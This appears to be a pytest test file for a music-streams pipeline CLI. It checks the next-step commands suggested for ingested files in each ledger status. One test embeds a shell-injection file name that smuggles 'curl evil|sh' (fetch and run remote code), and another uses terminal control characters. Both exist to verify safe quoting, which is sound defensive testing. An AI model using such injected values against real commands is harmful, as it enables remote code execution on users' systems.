"""The next steps that are shown for a file."""

import shlex
from dataclasses import replace

import pytest

from music_streams.operate.next_steps import NextStep, next_steps
from music_streams.state.ledger import Entry
from music_streams.state.sources import Source, Treatment
from music_streams.state.statuses import Status

SOURCE = Source("landing", "incoming/a b.csv", "v1", 10, "2024-06-25T12:00:00.000Z")
ID = SOURCE.source_id
SONGS = "music-streams put SONGS.csv --reference songs"
PUT = "upload a fixed file: music-streams put FIXED.csv --key 'a b.csv'"
LONG_AGO = "2024-06-25T12:00:00.000Z"


def steps_for(entry: Entry, *, is_local: bool = True) -> list[NextStep]:
    return next_steps(entry, is_local=is_local, stall_seconds=300.0)


def entry(status: str, **more) -> Entry:
    return Entry(SOURCE, Status(status), more.pop("updated_at", LONG_AGO), 1, **more)


@pytest.mark.parametrize(
    ("ledger_entry", "steps"),
    [
        (entry("QUARANTINED", reason="not_utf8"), [PUT]),
        (
            entry("QUARANTINED", reason="too_many_bad_rows"),
            [PUT, f"instead, if its valid rows are enough: music-streams quarantine release {ID}"],
        ),
        (
            entry("FAILED", reason="no_reference_data"),
            [
                "put a songs file: music-streams put SONGS.csv --reference songs",
                f"after that: music-streams redrive {ID}",
            ],
        ),
        (
            entry("FAILED", reason="States.TaskFailed: it broke"),
            [f"log of the run: music-streams logs --file {ID}", f"after fixing the cause: music-streams redrive {ID}"],
        ),
        (entry("RUNNING", updated_at="2999-01-01T00:00:00.000Z"), ["music-streams status --watch"]),
        (
            entry("PUBLISHED"),
            ["music-streams status --watch", f"if its status does not change: music-streams redrive {ID}"],
        ),
        (entry("ARCHIVED", rejected={"duplicate": 3}), []),
        (
            entry("ARCHIVED", rejected={"duplicate": 3, "unknown_track": 1_200}),
            [
                f"1,200 rows are parked until their songs arrive: {SONGS}",
                f"after that, Airflow replays the file; to replay it at once: music-streams replay {ID}",
            ],
        ),
        (
            entry("ARCHIVED", treatment=Treatment.RETRACT),
            [f"if its status is not RETRACTED after 5 min: music-streams redrive {ID}"],
        ),
        (entry("RETRACTED", treatment=Treatment.RETRACT), []),
    ],
)
def test_the_steps_contain_the_command(ledger_entry, steps):
    assert [str(step) for step in steps_for(ledger_entry)] == steps


def test_a_deleted_file_has_to_be_uploaded_again():
    [step] = steps_for(entry("FAILED", reason="object_gone"))
    assert step.command == "music-streams put FILE"


def test_on_aws_the_step_is_the_history_of_the_execution():
    failed = replace(entry("FAILED", reason="x"), execution_arn="arn:1")
    assert steps_for(failed, is_local=False)[0].command.endswith("get-execution-history --execution-arn arn:1")


def test_a_file_whose_name_cannot_be_typed_needs_another_name():
    hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key="incoming/a\u202e\x1b[2J.csv"))
    [step, *_] = steps_for(hostile)
    assert step == NextStep("upload a fixed file under a name without control characters")


def test_a_name_with_spaces_and_quotes_is_one_argument_of_the_command():
    name = "x   '; curl evil|sh   '.csv"
    hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key=f"incoming/{name}"))
    [step] = steps_for(hostile)
    assert shlex.split(step.command) == ["music-streams", "put", "FIXED.csv", "--key", name]
